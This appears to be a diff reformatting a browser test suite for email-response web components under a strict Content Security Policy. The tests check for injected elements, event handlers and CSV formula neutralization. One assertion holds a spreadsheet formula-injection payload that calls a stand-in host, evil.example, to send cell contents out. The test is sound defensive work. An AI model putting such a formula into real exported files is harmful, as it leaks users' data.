@@ -118,7 +118,10 @@ let browser;
 
 before(async () => {
   tmp = mkdtempSync(join(tmpdir(), 'email-responses-iife-'));
-  const build = spawnSync('npx', ['vite', 'build', '--mode', 'iife', '--outDir', tmp, '--logLevel', 'warn'], { cwd: ROOT, encoding: 'utf8' });
+  const build = spawnSync('npx', ['vite', 'build', '--mode', 'iife', '--outDir', tmp, '--logLevel', 'warn'], {
+    cwd: ROOT,
+    encoding: 'utf8',
+  });
   assert.equal(build.status, 0, `the IIFE build failed:\n${build.stdout}\n${build.stderr}`);
   iife = readFileSync(join(tmp, 'email-responses.iife.js'));
   server = createServer((request, response) => {
@@ -193,7 +196,8 @@ async function rendered(page) {
 /** What the elements show, read through their shadow roots. */
 function inspect(page) {
   return page.evaluate((payloads) => {
-    const all = (root) => [...root.querySelectorAll('*')].flatMap((el) => [el, ...(el.shadowRoot ? all(el.shadowRoot) : [])]);
+    const all = (root) =>
+      [...root.querySelectorAll('*')].flatMap((el) => [el, ...(el.shadowRoot ? all(el.shadowRoot) : [])]);
     const report = {};
     for (const tag of ['audience-response-grid', 'contact-response-timeline', 'response-summary']) {
       const root = document.querySelector(tag).shadowRoot;
@@ -201,7 +205,9 @@ function inspect(page) {
       const text = root.textContent ?? '';
       report[tag] = {
         elements: elements.length,
-        foreign: elements.filter((el) => ['script', 'img', 'iframe', 'a', 'style', 'object', 'embed'].includes(el.localName)).map((el) => el.outerHTML.slice(0, 60)),
+        foreign: elements
+          .filter((el) => ['script', 'img', 'iframe', 'a', 'style', 'object', 'embed'].includes(el.localName))
+          .map((el) => el.outerHTML.slice(0, 60)),
         handlers: elements.flatMap((el) => el.getAttributeNames().filter((name) => name.startsWith('on'))),
         svg: elements.filter((el) => el.localName === 'svg').length,
         shown: payloads.filter((p) => text.includes(p)).length,
@@ -210,7 +216,9 @@ function inspect(page) {
     }
     const grid = document.querySelector('audience-response-grid');
     report.gridRows = grid.shadowRoot.querySelectorAll('[role="row"][data-index]').length;
-    report.firstRow = [...grid.shadowRoot.querySelectorAll('[role="row"][data-index]')][0]?.textContent.replace(/\s+/g, ' ').trim();
+    report.firstRow = [...grid.shadowRoot.querySelectorAll('[role="row"][data-index]')][0]?.textContent
+      .replace(/\s+/g, ' ')
+      .trim();
     report.gridHeight = grid.shadowRoot.querySelector('[role="grid"]').getBoundingClientRect().height;
     report.pwned = window.__faultsPwned ?? null;
     report.ingested = window.__ingested;
@@ -251,7 +259,9 @@ describe('the elements on a strict page (CSP without unsafe-inline or unsafe-eva
       });
       await page.waitForFunction(
         (first) => {
-          const rows = [...document.querySelector('audience-response-grid').shadowRoot.querySelectorAll('[role="row"][data-index]')];
+          const rows = [
+            ...document.querySelector('audience-response-grid').shadowRoot.querySelectorAll('[role="row"][data-index]'),
+          ];
           return rows.length > 0 && !rows.some((row) => row.textContent.replace(/\s+/g, ' ').trim() === first);
         },
         before,
@@ -260,10 +270,15 @@ describe('the elements on a strict page (CSP without unsafe-inline or unsafe-eva
 
       // The CSV download (a Blob URL and a detached link) works under the policy, formulas neutralized.
       const download = page.waitForEvent('download', { timeout: 10_000 });
-      await page.evaluate(() => document.querySelector('audience-response-grid').shadowRoot.querySelector('[part~="export-button"]').click());
+      await page.evaluate(() =>
+        document.querySelector('audience-response-grid').shadowRoot.querySelector('[part~="export-button"]').click(),
+      );
       const file = await (await download).path();
       const csv = readFileSync(file, 'utf8');
-      assert.ok(csv.includes(`'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")`), 'the formula is neutralized in the file');
+      assert.ok(
+        csv.includes(`'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")`),
+        'the formula is neutralized in the file',
+      );
 
       const after = await inspect(page);
       assert.deepEqual(after.violations, [], 'no violation after scrolling and exporting');
@@ -294,7 +309,11 @@ describe('the elements on a strict page (CSP without unsafe-inline or unsafe-eva
       await rendered(page);
       const report = await inspect(page);
       const reported = report.violations.filter((v) => v.disposition === 'report');
-      assert.deepEqual(report.violations.filter((v) => v.disposition !== 'report'), [], 'nothing enforced was violated');
+      assert.deepEqual(
+        report.violations.filter((v) => v.disposition !== 'report'),
+        [],
+        'nothing enforced was violated',
+      );
       assert.deepEqual(
         reported.map((v) => [v.directive, v.sample]),
         [['trusted-types', 'lit-html']],
@@ -309,10 +328,19 @@ describe('the elements on a strict page (CSP without unsafe-inline or unsafe-eva
     const { context, page, consoleErrors } = await open('policy=none');
     try {
       await page.waitForFunction(() => window.__violations?.length > 0, undefined, { timeout: 10_000 });
-      const state = await page.evaluate(() => ({ violations: window.__violations, defined: Boolean(customElements.get('audience-response-grid')) }));
-      assert.deepEqual(state.violations.map((v) => [v.directive, v.sample]), [['trusted-types', 'lit-html']]);
+      const state = await page.evaluate(() => ({
+        violations: window.__violations,
+        defined: Boolean(customElements.get('audience-response-grid')),
+      }));
+      assert.deepEqual(
+        state.violations.map((v) => [v.directive, v.sample]),
+        [['trusted-types', 'lit-html']],
+      );
       assert.equal(state.defined, false);
-      assert.ok(consoleErrors.some((text) => /lit-html/.test(text)), 'the page says why');
+      assert.ok(
+        consoleErrors.some((text) => /lit-html/.test(text)),
+        'the page says why',
+      );
     } finally {
       await context.close();
     }
